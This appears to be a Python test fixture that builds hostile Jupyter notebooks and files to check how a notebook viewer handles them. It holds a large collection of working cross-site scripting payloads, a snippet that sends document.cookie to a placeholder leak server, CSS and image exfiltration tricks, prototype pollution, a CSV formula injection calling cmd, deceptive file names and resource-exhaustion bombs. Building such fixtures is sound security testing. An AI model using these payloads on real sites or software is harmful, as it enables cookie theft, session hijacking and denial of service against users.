# SPDX-License-Identifier: Apache-2.0
"""Notebooks and files that mean harm. Each payload has a name, which it carries with it: whatever it manages to run, open or ask for says
which one it was. `LEAK` in a payload becomes the address of a server that must never hear anything."""

import base64
import copy
import json

# What a script of a payload does when it runs: it leaves its name on every window it can reach and tells the server, with the cookies.
RUN = ("try{{top.__pwned='{0}'}}catch(e){{}}try{{parent.__pwned='{0}'}}catch(e){{}}self.__pwned='{0}';"
       "try{{new Image().src='LEAK/{0}?'+encodeURIComponent(document.cookie)}}catch(e){{new Image().src='LEAK/{0}'}}")
ATTR = "self.__pwned=`{0}`;new Image().src=`LEAK/{0}?`+document.cookie"  # the same without any of the characters that end an attribute
REMOTE = "LEAK/{0}"

HTML = {
    "script": "<script>{run}</script>",
    "script-src": "<script src='{remote}'></script>",
    "script-module": "<script type=module>{run}</script>",
    "script-in-table": "<table><tr><td><script>{run}</script></td></tr></table>",
    "img-onerror": '<img src=x onerror="{attr}">',
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{attr}">',
    "img-remote": '<img src="{remote}"><img srcset="{remote}-set 1x"><picture><source srcset="{remote}-source"><img></picture>',
    "lazy-img": '<img loading=lazy src=x onerror="{attr}" style="position:fixed">',
    "svg-onload": '<svg onload="{attr}"><circle r=9></svg>',
    "svg-script": "<svg><script>{run}</script></svg>",
    "svg-foreign": '<svg><foreignObject><body onload="{attr}"><img src=x onerror="{attr}"></body></foreignObject></svg>',
    "svg-use": "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD14IHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyI+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x'/></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:{attr}"/><text x=9 y=20>click</text></a></svg>',
    "svg-set": '<svg><set onbegin="{attr}" attributename=x dur=1s></svg>',
    "iframe-js": '<iframe src="javascript:{attr}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>{attr}</script>"></iframe>',
    "iframe-remote": '<iframe src="{remote}"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>{attr}</script>"></iframe>',
    "iframe-own": "<iframe src='/lab'></iframe><iframe src='/'></iframe>",
    "object": '<object data="{remote}"></object><object data="data:text/html,<script>{attr}</script>" type="text/html"></object>',
    "embed": '<embed src="{remote}"><embed src="javascript:{attr}">',
    "a-js": '<a href="javascript:{attr}">click</a><a href=" &#14; java&#x0A;script:{attr}">click</a>',
    "a-data": '<a href="data:text/html,<script>{attr}</script>">click</a><a target=_blank href="vbscript:msgbox(1)">click</a>',
    "meta-refresh": "<meta http-equiv=refresh content='0;url={remote}'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "base": "<base href='{remote}/'><img src='relative.png'>",
    "form": '<form id=f action="{remote}" method=post><input name=a value=b autofocus onfocus="{attr}"><button formaction="javascript:{attr}">x</button></form>',
    "form-clobber": '<form id=document><input name=cookie><input name=body><img name=getElementById></form><a id=defaultView></a>',
    "link-style": "<link rel=stylesheet href='{remote}'><link rel=preload as=script href='{remote}-preload'><link rel=prefetch href='{remote}-prefetch'>",
    "link-dns": "<link rel=dns-prefetch href='{remote}'><link rel=preconnect href='{remote}'><link rel=modulepreload href='{remote}-module'>",
    "style-import": "<style>@import url('{remote}');</style>",
    "style-exfil": "<style>input[value^=a]{{background:url({remote})}} *{{background-image:url('{remote}-all')!important}} @font-face{{font-family:q;src:url({remote}-font)}} body{{font-family:q!important}}</style><input value=abc>",
    "style-attr": "<div style=\"background:url('{remote}');position:fixed;inset:0;z-index:99999;list-style-image:url({remote}-list)\">over everything</div>",
    "body-onload": '<body onload="{attr}" onpageshow="{attr}">',
    "details": '<details open ontoggle="{attr}"><summary>x</summary></details>',
    "video": '<video poster="{remote}" src=x onerror="{attr}"><source src="{remote}-source" onerror="{attr}"></video><audio src=x onerror="{attr}" autoplay></audio>',
    "marquee": '<marquee onstart="{attr}">x</marquee>',
    "animation": '<style>@keyframes z{{}}</style><b style="animation-name:z" onanimationstart="{attr}">x</b>',
    "contentvisibility": '<a style="content-visibility:auto" oncontentvisibilityautostatechange="{attr}">x</a>',
    "popover": '<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{attr}">x</div>',
    "template": '<template shadowrootmode=open><img src=x onerror="{attr}"></template>',
    "custom-element": '<x-a is=script onclick="{attr}"><script>{run}</script></x-a>',
    "comment": '<!--><img src=x onerror="{attr}">--><!--[if gte IE 4]><script>{run}</script><![endif]-->',
    "mxss-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={attr}&gt;">',
    "mxss-form": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{attr}">',
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror={attr}>"></noscript>',
    "mxss-svg": '<svg></p><style><a id="</style><img src=1 onerror={attr}>"></svg>',
    "mxss-select": '<select><option><style></option></select><img src=x onerror="{attr}"></style></option></select>',
    "mxss-cdata": '<svg><![CDATA[><img src=x onerror="{attr}">]]></svg><math><annotation-xml encoding="text/html"><img src=x onerror="{attr}"></annotation-xml></math>',
    "mxss-deep": "<div>" * 600 + '<svg><p><style><!--</style><img src=x onerror="{attr}">' + "</div>" * 600,
    "nul": '<scr\0ipt>{run}</scr\0ipt><img \0src=x o\0nerror="{attr}">',
    "unclosed": '<img src=x onerror="{attr}" title="<b',
    "polyglot": 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk={attr} )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd="{attr}"//>',
}

MARKDOWN = {
    "md-html": '<script>{run}</script>\n\n<img src=x onerror="{attr}">',
    "md-link-js": "[click](javascript:{attr}) [click](JaVaScRiPt&colon;{attr}) <javascript:{attr}>",
    "md-link-entity": "[click](jav&#x61;script&#58;{attr}) [click](\x01javascript:{attr}) [click](java\tscript:{attr})",
    "md-link-data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [click](vbscript:msgbox)",
    "md-ref": "[click][1]\n\n[1]: javascript:{attr} \"x\" onmouseover=\"{attr}\"",
    "md-image": "![x](javascript:{attr}) ![x](x \"onerror={attr}\") ![\"onerror=\"{attr}](x)",
    "md-image-remote": "![x]({remote}) ![y](//LEAKHOST/md-image-remote)",
    "md-attachment": "![x](attachment:evil.html) ![y](attachment:__proto__) ![z](attachment:pic.svg)",
    "md-fence": '```"><img src=x onerror={attr}>\ncode\n```\n\n```mermaid\ngraph TD; A["<img src=x onerror={attr}>"]\n```',
    "md-math": "$\\href{{javascript:{attr}}}{{x}}$ $\\url{{javascript:{attr}}}$ $\\includegraphics{{{remote}}}$ $\\htmlData{{onclick={attr}}}{{x}}$ $\\html@mathml{{<script>{run}</script>}}{{x}}$",
    "md-math-bomb": "$" + "\\def\\a{{\\b\\b}}\\def\\b{{\\a\\a}}\\a" + "$ $" + "{{" * 3000 + "}}" * 3000 + "$ $$\\frac{{" * 400 + "$$",
    "md-quotes": ">" * 8000 + " deep",
    "md-lists": "\n".join(" " * (2 * i) + "- x" for i in range(400)),
    "md-brackets": "[" * 20000 + "a](" * 200 + "**" * 20000,
    "md-table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "b|" * 2000 + "\n") * 3,
    "md-html-block": "<div\n onclick='{attr}'\n style='position:fixed;inset:0'>\n\n**x**\n\n</div>\n<style>*{{background:url({remote})}}</style>",
}

SVG = {
    "image-svg-script": "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>{run}</script></svg>",
    "image-svg-onload": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{attr}\"><rect width='9' height='9'/></svg>",
    "image-svg-foreign": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='99' height='99'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{attr}'/><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{attr}\"/></foreignObject></svg>",
    "image-svg-remote": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><image href='{remote}'/><use x:href='{remote}-use#a'/><style>@import '{remote}-style';</style></svg>",
    "image-svg-entity": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&d;&d;&d;</text></svg>",
}

VEGA = "https://vega.github.io/schema/vega/v5.json"
MIME = {
    "javascript": {"application/javascript": "{run}"},
    "javascript-text": {"text/javascript": "{run}", "application/x-javascript": "{run}", "application/ecmascript": "{run}"},
    "mime-name": {'text/html"><img src=x onerror="{attr}">': "x", "text/html;charset=<script>": "<b>x</b>", "__proto__": {"x": 1}, "constructor": "x"},
    "mime-types": {"text/plain": {"not": "text"}, "text/html": 7, "image/png": ["a", None], "image/svg+xml": {"a": 1}, "text/markdown": None},
    "png-broken": {"image/png": "%%%% not base64 \" onerror=\"{attr}", "image/jpeg": "\" onerror=\"{attr}"},
    "png-size": {"image/png": "iVBORw0KGgoAAAANSUhEUgAA////AAAA//8IBgAAAAAAAAA="},
    "latex": {"text/latex": "$$\\href{{javascript:{attr}}}{{x}} \\unicode{{x3c}}script$$<img src=x onerror=\"{attr}\">"},
    "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>").decode()},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "text": "<a href=\"javascript:{attr}\">x</a>",
               "hovertemplate": "<img src=x onerror=\"{attr}\">"}], "layout": {"title": {"text": "<a href=\"javascript:{attr}\">t</a>"},
               "images": [{"source": "{remote}", "x": 0, "y": 0, "sizex": 1, "sizey": 1}], "mapbox": {"style": "{remote}-map"}, "__proto__": {"x": 1}}}},
    "plotly-lies": {"application/vnd.plotly.v1+json": {"data": "none", "layout": [], "frames": 9, "config": {"plotlyServerURL": "{remote}"}}},
    "vega-expression": {"application/vnd.vega.v5+json": {"$schema": VEGA, "signals": [{"name": "s", "update": "constructor.constructor('{attr}')()"}],
                        "marks": [{"type": "text", "encode": {"update": {"text": {"signal": "this.constructor.constructor('{attr}')()"}, "href": {"value": "javascript:{attr}"}}}}]}},
    "vega-remote": {"application/vnd.vegalite.v5+json": {"$schema": "{remote}-schema", "data": {"url": "{remote}"}, "mark": {"type": "image", "url": "{remote}-image"},
                    "encoding": {"x": {"field": "a", "type": "quantitative"}}}},
    "vega-bomb": {"application/vnd.vegalite.v5+json": {"data": {"sequence": {"start": 0, "stop": 1e12, "as": "x"}}, "mark": "point", "width": 1e9, "height": 1e9,
                  "encoding": {"x": {"field": "x", "type": "quantitative"}}}},
    "widget-lies": {"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "<img src=x onerror=\"{attr}\">"}},
    "widget-state": {"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "evil"}},
    "json-output": {"application/json": {"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "<img src=x onerror=\"{attr}\">": ["<b>"]}},
    "geojson": {"application/geo+json": {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"popup": "<img src=x onerror=\"{attr}\">"}}]}},
    "markdown-output": {"text/markdown": "[click](javascript:{attr}) <img src=x onerror=\"{attr}\"> <iframe src=\"javascript:{attr}\"></iframe>"},
    "data-url": {"text/html": "<a download href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{attr}'/>\">"},
}
WIDGET_STATE = {"state": {"evil": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "state": {
    "value": "<img src=x onerror=\"{attr}\"><script>{run}</script>", "layout": "IPY_MODEL_none", "_view_module": "LEAK/widget-state.js", "_view_name": "HTMLView"}},
    "__proto__": {"state": {}}}, "version_major": 2, "version_minor": 0}

ESC = "\x1b["
TEXT = {
    "ansi-bomb": "".join(f"{ESC}{i % 110};38;5;{i}m" for i in range(20000)) + "end" + f"{ESC}99999999999999999999C{ESC}2J{ESC}9999999A",
    "ansi-link": "\x1b]8;;javascript:{attr}\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07 \x1b]52;c;cGF3bmVk\x07 \x1bP+q544e\x1b\\",
    "ansi-html": f"{ESC}31m<img src=x onerror=\"{{attr}}\">{ESC}0m <script>{{run}}</script>",
    "one-line": "x" * 3_000_000,
    "bidi": "\u202egnp.exe\u202c \u2066\u2067 \u200b\u200d\ufeff zalgo" + "\u0301" * 5000,
    "carriage": "\r".join(str(i) for i in range(50000)) + "\b" * 50000,
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9f\u2028\u2029\ufffe\uffff",
    "auto-link": "http://a.example/\"onmouseover={attr} javascript:{attr} www.<img src=x onerror={attr}>",
}


def fill(value, name, leak):
    """The payload with its name and the server's address in it, wherever there is text."""
    if isinstance(value, str):
        attr, run = ATTR.replace("{0}", name), RUN.format(name)
        text = value.replace("{attr}", attr).replace("{run}", run).replace("{remote}", REMOTE.format(name)).replace("{{", "{").replace("}}", "}")
        return text.replace("LEAKHOST", leak.split("//")[1]).replace("LEAK", leak)
    if isinstance(value, dict):
        return {fill(k, name, leak): fill(v, name, leak) for k, v in value.items()}
    return [fill(v, name, leak) for v in value] if isinstance(value, list) else value


def code_cell(n, outputs, source="pass"):
    return {"cell_type": "code", "id": f"c{n}", "metadata": {}, "execution_count": n, "source": source, "outputs": outputs}


def shown(data, kind="display_data"):
    return {"output_type": kind, "data": data, "metadata": {}, **({"execution_count": 1} if kind == "execute_result" else {})}


def notebook(cells, **metadata):
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}, **metadata},
            "nbformat": 4, "nbformat_minor": 5}


def cells_of(names, leak):
    """One cell for each payload of that name, of whatever kind it is."""
    cells = []
    for n, name in enumerate(names):
        attachments = {"evil.html": {"text/html": "<script>1</script>"}, "pic.svg": {"image/svg+xml": base64.b64encode(
            fill(SVG["image-svg-script"], name, leak).encode()).decode()}, "__proto__": {"image/png": "x"}}
        if name in HTML:
            cells.append(code_cell(n, [shown({"text/html": fill(HTML[name], name, leak), "text/plain": name})]))
            cells.append({"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": f"{name}\n\n{fill(HTML[name], name, leak)}\n"})
        elif name in MARKDOWN:
            cells.append({"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": fill(MARKDOWN[name], name, leak), "attachments": attachments})
        elif name in SVG:
            cells.append(code_cell(n, [shown({"image/svg+xml": fill(SVG[name], name, leak)}, "execute_result")]))
        elif name in MIME:
            cells.append(code_cell(n, [shown(fill(MIME[name], name, leak))]))
        elif name in TEXT:
            text = fill(TEXT[name], name, leak)
            cells.append(code_cell(n, [{"output_type": "stream", "name": "stdout", "text": text},
                                       {"output_type": "error", "ename": text[:2000], "evalue": text[:2000], "traceback": [text[:20000]] * 3}]))
    return cells


# JupyterLab refuses some of these as a whole, and draws a million million points of the last one until it is closed.
TYPES = ["mime-name", "mime-types", "png-broken", "json-output", "vega-bomb"]
GROUPS = {"html-1": [*HTML][:30], "html-2": [*HTML][30:], "markdown": [*MARKDOWN], "images": [*SVG, *(k for k in MIME if k not in TYPES)],
          "types": TYPES, "text": [*TEXT]}
NAMES = [n for names in GROUPS.values() for n in names]


def group(names, leak):
    """A notebook of these payloads, as bytes."""
    return json.dumps(notebook(cells_of(names, leak), widgets={"application/vnd.jupyter.widget-state+json": fill(WIDGET_STATE, "widget-state", leak)},
                               title=fill('<img src=x onerror="{attr}">', "title", leak))).encode()


def lies(leak):
    """Wrong types and hostile keys everywhere that a reader may look."""
    html = fill('"><img src=x onerror="{attr}">', "lies", leak)
    n = notebook([code_cell(0, [shown({"text/plain": "fine"})]) for _ in range(12)])
    c = n["cells"]
    c[0].update(id=html, metadata={"tags": [html, 7], "collapsed": "no", "scrolled": [], "jupyter": 3, "__proto__": {"polluted": "yes"}})
    c[1].update(execution_count=html, source=["a", "b\n", 7] if False else ["a\n", "b"])
    c[2].update(outputs=[{"output_type": html}, {"output_type": "stream", "name": html, "text": ["a", "b"]}, {"output_type": "display_data", "data": {}, "metadata": {}}])
    c[3].update(outputs=[{"output_type": "error", "ename": html, "evalue": html, "traceback": [html]}])
    c[4].update(cell_type="raw", metadata={"format": html})
    c[5].update(id=c[6]["id"])
    c[7].update(metadata={"constructor": {"prototype": {"polluted": "yes"}}})
    n["metadata"]["language_info"] = {"name": html, "codemirror_mode": {"name": html}, "file_extension": html, "mimetype": html}
    n["metadata"]["kernelspec"] = {"name": html, "display_name": html, "language": html}
    return json.dumps(n).replace('"collapsed"', '"__proto__": {"polluted": "yes"}, "collapsed"', 1).encode()


def files(leak):
    """Whole files that are hostile as such: name to bytes. None of them is a notebook that all programs can open."""
    good = notebook([code_cell(0, [shown({"text/plain": "x"})])])
    many = notebook([{**code_cell(i, []), "source": f"x = {i}"} for i in range(10_000)])
    long_id = copy.deepcopy(good)
    long_id["cells"][0]["id"] = "i" * (1 << 20)
    wrong = copy.deepcopy(good)
    wrong["cells"] = [None, 7, "cell", [], {}, {"cell_type": None}, {"cell_type": "code"}, {"cell_type": "code", "source": {}, "outputs": "x", "metadata": []}]
    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "<script>"}, "worksheets": [{"cells": [
        {"cell_type": "code", "language": "python", "input": "1", "outputs": [{"output_type": "pyout", "html": fill(HTML["img-onerror"], "v3", leak), "prompt_number": 1}], "prompt_number": 1},
        {"cell_type": "heading", "level": 1, "source": fill(HTML["img-onerror"], "v3-heading", leak)}]}]}
    names = {
        "broken.ipynb": b'{"cells": [{"cell_type": "co', "empty.ipynb": b"", "array.ipynb": b"[]", "null.ipynb": b"null", "number.ipynb": b"1e999",
        "nul.ipynb": json.dumps(good).encode().replace(b'"x"', b'"\\u0000\x00"'), "surrogate.ipynb": json.dumps(good).encode().replace(b'"x"', b'"\\ud800 lone \\udc00"'),
        "not-utf8.ipynb": json.dumps(good).encode().replace(b'"x"', b'"\xff\xfe\xc3("'), "bom.ipynb": b"\xef\xbb\xbf" + json.dumps(good).encode(),
        "twice.ipynb": json.dumps(good).encode().replace(b'"nbformat": 4', b'"nbformat": 3, "nbformat": 4'),
        "deep.ipynb": b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b',"metadata":{},"nbformat":4,"nbformat_minor":5}',
        "v1.ipynb": b'{"nbformat":1,"cells":[{"cell_type":"code","input":"1","outputs":[]}]}',
        "v2.ipynb": b'{"nbformat":2,"nbformat_minor":0,"metadata":{},"worksheets":[{"cells":[{"cell_type":"code","input":"1","outputs":[],"language":"python"}]}]}',
        "v3.ipynb": json.dumps(v3).encode(), "v4-0.ipynb": json.dumps({**good, "nbformat_minor": 0}).encode(), "v5.ipynb": json.dumps({**good, "nbformat": 5, "nbformat_minor": 99}).encode(),
        "wrong-types.ipynb": json.dumps(wrong).encode(), "lies.ipynb": lies(leak), "long-id.ipynb": json.dumps(long_id).encode(), "ten-thousand.ipynb": json.dumps(many).encode(),
        "page.html": fill(HTML["script"], "page-html", leak).encode() + fill(HTML["img-onerror"], "page-html", leak).encode(),
        "picture.svg": fill(SVG["image-svg-script"], "picture-svg", leak).encode(), "remote.svg": fill(SVG["image-svg-remote"], "remote-svg", leak).encode(),
        "fake.png": fill(HTML["script"], "fake-png", leak).encode(), "style.css": b"*{}", "page.xhtml": fill(SVG["image-svg-foreign"], "xhtml", leak).encode(),
        "formula.csv": b'=cmd|" /C calc"!A0,+1+1,@SUM(A1),-2\n<img src=x onerror=alert(1)>,"a""b",\xff,\x00\n',
        "wide.csv": b",".join(b"%d" % i for i in range(1_000_000)), "ragged.csv": b"\n".join(b"," * (i % 97) for i in range(20_000)),
        "notes.md": fill("\n\n".join(MARKDOWN[k] for k in ("md-html", "md-link-js", "md-image", "md-image-remote", "md-math", "md-html-block")), "notes-md", leak).encode(),
        "deep.json": b"[" * 200_000, "proto.json": b'{"__proto__":{"polluted":"yes"}}',
    }
    odd = {'<img src=x onerror=self.__pwned=`name`>.txt': b"name", "\u202egpj.exe.txt": b"bidi", "a'b\"c&d.txt": b"quotes", "con\u0007trol.txt": b"bell",
           "javascript:alert(1).md": b"# scheme", "..%2f..%2fetc.txt": b"percent", "e\u0301 \u00e9.txt": b"composed", " space .txt": b"space", "-rf.txt": b"dash"}
    return names, odd


def big(leak):
    """Notebooks whose outputs are of a hundred megabytes, written piece by piece."""
    head, tail = (s.encode() for s in json.dumps(notebook([code_cell(0, [{"output_type": "stream", "name": "stdout", "text": "@@"}])])).split("@@"))
    yield "hundred-megabytes.ipynb", [head, *[b"0123456789abcdef\\n" * 6000] * 1000, tail]
    head, tail = (s.encode() for s in json.dumps(notebook([code_cell(0, [shown({"text/html": "<img src='data:image/png;base64,@@'>"})])])).split("@@"))
    yield "data-url.ipynb", [head, *[b"iVBORw0K" * 6250] * 1000, tail]


def narrow(names, bad):
    """The smallest part of these payloads for which bad(part) still holds: which one it was that hung or broke a page."""
    while len(names) > 1:
        half = len(names) // 2
        if bad(names[:half]):
            names = names[:half]
        elif bad(names[half:]):
            names = names[half:]
        else:
            break  # it takes several together
    return names
